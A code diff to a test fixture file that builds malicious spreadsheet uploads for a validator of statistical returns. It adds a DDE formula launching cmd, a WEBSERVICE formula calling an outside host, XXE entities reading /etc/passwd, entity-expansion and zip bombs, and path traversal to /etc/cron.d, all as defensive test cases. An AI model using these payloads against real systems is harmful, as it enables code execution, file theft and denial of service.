@@ -7,11 +7,16 @@ import struct
 import warnings
 from collections.abc import Callable
 from io import BytesIO
+from pathlib import Path
 from zipfile import ZIP_DEFLATED, ZipFile
 
 from tests.returns.filled import changed, repacked
 
+LIBREOFFICE = Path(__file__).parent / "fixtures" / "libreoffice.xlsx"
 SHEET = "xl/worksheets/sheet2.xml"  # 单位情况
+STRINGS = "xl/sharedStrings.xml"
+_USUAL = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_STRICT = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
 BOMB = b"\0" * (1 << 20)
 
 
@@ -34,6 +39,25 @@ def _edited(part: str, old: bytes, new: bytes) -> bytes:
 def _cells(xml: bytes) -> bytes:
     """The unit sheet with more cells at its end."""
     return _edited(SHEET, b"</sheetData>", xml + b"</sheetData>")
+
+
+def _cell_d6(xml: bytes) -> bytes:
+    """The return with another cell for its employees (D6 of 单位情况)."""
+    return repacked(good(), {SHEET: lambda text: re.sub(rb'<c r="D6"[^>]*>.*?</c>', lambda _: xml, text)})
+
+
+def _related(kind: str, target: str, mode: str = "Internal") -> bytes:
+    """One more relationship of the workbook, of this kind."""
+    one = (
+        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
+        f' Target="{target}" TargetMode="{mode}"/></Relationships>'
+    )
+    return _edited("xl/_rels/workbook.xml.rels", b"</Relationships>", one.encode())
+
+
+def _strings(part: Callable[[bytes], bytes]) -> bytes:
+    """LibreOffice's return (its texts are shared strings), those changed."""
+    return repacked(LIBREOFFICE.read_bytes(), {"xl/sharedStrings.xml": part})
 
 
 def _flipped() -> bytes:
@@ -75,19 +99,19 @@ def _overlapping() -> bytes:
     return bytes(content)
 
 
-def _declaring(part: str, doctype: bytes) -> bytes:
+def _declaring(part: str, doctype: bytes, of: bytes | None = None) -> bytes:
     """A part with a document type before its first element."""
     head = b'<?xml version="1.0"?><!DOCTYPE x [' + doctype + b"]>"
-    return repacked(good(), {part: lambda text: head + re.sub(rb"^<\?xml[^>]*\?>", b"", text)})
+    return repacked(of or good(), {part: lambda text: head + re.sub(rb"^<\?xml[^>]*\?>", b"", text)})
 
 
-def _laughs(part: str) -> bytes:
+def _laughs(part: str, of: bytes | None = None) -> bytes:
     more = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
-    return _declaring(part, b'<!ENTITY l0 "lol">' + more)
+    return _declaring(part, b'<!ENTITY l0 "lol">' + more, of)
 
 
-def _outside_entity() -> bytes:
-    return _declaring("xl/workbook.xml", b'<!ENTITY f SYSTEM "file:///etc/passwd">')
+def _outside_entity(part: str, of: bytes | None = None) -> bytes:
+    return _declaring(part, b'<!ENTITY f SYSTEM "file:///etc/passwd">', of)
 
 
 def _cell(address: str) -> bytes:
@@ -121,9 +145,7 @@ def _huge_cell() -> bytes:
 
 
 def _strict() -> bytes:
-    usual = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-    strict = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
-    return repacked(good(), {"xl/workbook.xml": lambda text: text.replace(usual, strict)})
+    return repacked(good(), {"xl/workbook.xml": lambda text: text.replace(_USUAL, _STRICT)})
 
 
 # name → (content, file name, key of messages.yml files, cell)
@@ -138,6 +160,8 @@ FILES: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
     "F06 password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.xlsx", "password", ""),
     "F07 ods": (_ods, "a.xlsx", "other_format", ""),
     "F07 xlsb": (lambda: _with("xl/workbook.bin"), "a.xlsx", "other_format", ""),
+    "F07 xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.xls", "password", ""),
+    "F07 et of WPS": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.et", "password", ""),
     "F08 macros inside": (lambda: _with("xl/vbaProject.bin"), "a.xlsx", "macros", ""),
     "F08 xlsm": (good, "a.xlsm", "macros", ""),
     "F09 external link": (
@@ -147,15 +171,70 @@ FILES: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
         "",
     ),
     "F09 embedded object": (lambda: _with("xl/embeddings/oleObject1.bin"), "a.xlsx", "active_content", ""),
+    "F08 macros elsewhere": (lambda: _related("vbaProject", "odd/x.bin"), "a.xlsx", "macros", ""),
+    "F08 macros by type": (
+        lambda: _edited("[Content_Types].xml", b".sheet.main+xml", b".sheet.macroEnabled.main+xml"),
+        "a.xlsx",
+        "macros",
+        "",
+    ),
+    "F09 object elsewhere": (lambda: _related("oleObject", "odd/x.bin"), "a.xlsx", "active_content", ""),
+    "F09 link elsewhere": (lambda: _related("externalLink", "odd/x.xml"), "a.xlsx", "active_content", ""),
+    "F09 picture from afar": (
+        lambda: _related("image", "https://tracker.example/x.png", "External"),
+        "a.xlsx",
+        "active_content",
+        "",
+    ),
+    "F09 DDE": (
+        lambda: _cell_d6(b"<c r=\"D6\"><f>1+cmd|'/C calc'!A0</f><v>2650</v></c>"),
+        "a.xlsx",
+        "active_content",
+        "D6",
+    ),
+    "F09 a formula that asks the web": (
+        lambda: _cell_d6(b'<c r="D6"><f>_xlfn.WEBSERVICE("https://x.example/"&amp;A1)</f><v>2650</v></c>'),
+        "a.xlsx",
+        "active_content",
+        "D6",
+    ),
     "F10 a gigabyte": (_unpacks_to_a_gigabyte, "a.xlsx", "zip_bomb", ""),
     "F10 forged size": (_forged_size, "a.xlsx", "corrupt", ""),
     "F10 overlapping": (_overlapping, "a.xlsx", "zip_bomb", ""),
     "F10 many parts": (_many_parts, "a.xlsx", "zip_bomb", ""),
     "F11 a sheet twice": (lambda: _with(SHEET, b"<worksheet/>"), "a.xlsx", "bad_package", ""),
     "F11 a path upwards": (lambda: _with("../../etc/cron.d/x"), "a.xlsx", "bad_package", ""),
+    "F11 a path from the root": (lambda: _with("/etc/cron.d/x"), "a.xlsx", "bad_package", ""),
+    "F11 two sheets of one part": (
+        lambda: repacked(
+            good(), {"xl/_rels/workbook.xml.rels": lambda text: text.replace(b"sheet4.xml", b"sheet3.xml")}
+        ),
+        "a.xlsx",
+        "bad_package",
+        "",
+    ),
     "F12 laughs in a sheet": (lambda: _laughs(SHEET), "a.xlsx", "xml_entities", ""),
     "F12 laughs in the types": (lambda: _laughs("[Content_Types].xml"), "a.xlsx", "xml_entities", ""),
-    "F12 outside entity": (_outside_entity, "a.xlsx", "xml_entities", ""),
+    "F12 laughs in the strings": (
+        lambda: _laughs(STRINGS, LIBREOFFICE.read_bytes()),
+        "a.xlsx",
+        "xml_entities",
+        "",
+    ),
+    "F12 quadratic": (
+        lambda: _declaring(SHEET, b'<!ENTITY a "' + b"a" * 50_000 + b'">'),
+        "a.xlsx",
+        "xml_entities",
+        "",
+    ),
+    "F12 outside entity": (lambda: _outside_entity("xl/workbook.xml"), "a.xlsx", "xml_entities", ""),
+    "F12 outside entity in a sheet": (lambda: _outside_entity(SHEET), "a.xlsx", "xml_entities", ""),
+    "F12 outside entity in the strings": (
+        lambda: _outside_entity(STRINGS, LIBREOFFICE.read_bytes()),
+        "a.xlsx",
+        "xml_entities",
+        "",
+    ),
     "F13 a huge cell": (_huge_cell, "a.xlsx", "zip_bomb", ""),
     "F13 many rows": (
         lambda: _cells(b"".join(b'<row r="%d"/>' % n for n in range(30, 30_000))),
@@ -163,10 +242,54 @@ FILES: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
         "outside_form",
         "",
     ),
+    "F13 rows without end": (
+        lambda: _cells(b"<row/>" * 20_000_000),
+        "a.xlsx",
+        "outside_form",
+        "",
+    ),
+    "F13 many columns": (
+        lambda: _cells(b"".join(b'<row r="%d">%s</row>' % (n, b"<c/>" * 16_384) for n in range(30, 130))),
+        "a.xlsx",
+        "outside_form",
+        "GS30",
+    ),
+    "F13 huge strings": (
+        lambda: _strings(
+            lambda text: text.replace(
+                b"</sst>", (b"<si><t>" + b"a" * 30_000 + b"</t></si>") * 5_000 + b"</sst>"
+            )
+        ),
+        "a.xlsx",
+        "zip_bomb",
+        "",
+    ),
+    "F13 strings without end": (
+        lambda: _strings(lambda text: text.replace(b"</sst>", b"<si/>" * 25_000_000 + b"</sst>")),
+        "a.xlsx",
+        "reader_failed",
+        "",
+    ),
     "F13 many cells": (lambda: _cells(_wide()), "a.xlsx", "too_large", ""),
     "F14 last cell": (lambda: _cells(_cell("XFD1048576")), "a.xlsx", "outside_form", "XFD1048576"),
     "F14 no such cell": (lambda: _cells(_cell("ZZZZ99999999")), "a.xlsx", "outside_form", "ZZZZ99999999"),
     "F16 strict": (_strict, "a.xlsx", "other_format", ""),
+    "F14 last cell in a foreign table": (
+        lambda: _edited(
+            SHEET,
+            b"<sheetData>",
+            b'<e:sheetData xmlns:e="urn:e">' + _cell("XFD1048576") + b"</e:sheetData><sheetData>",
+        ),
+        "a.xlsx",
+        "corrupt",
+        "",
+    ),
+    "F16 strict sheet": (
+        lambda: repacked(good(), {SHEET: lambda text: text.replace(_USUAL, _STRICT)}),
+        "a.xlsx",
+        "other_format",
+        "",
+    ),
     "F16 sheet part gone": (lambda: repacked(good(), {}, without=(SHEET,)), "a.xlsx", "bad_package", ""),
     "F16 string out of range": (
         lambda: _cells(b'<row r="13"><c r="D13" t="s"><v>99999</v></c></row>'),
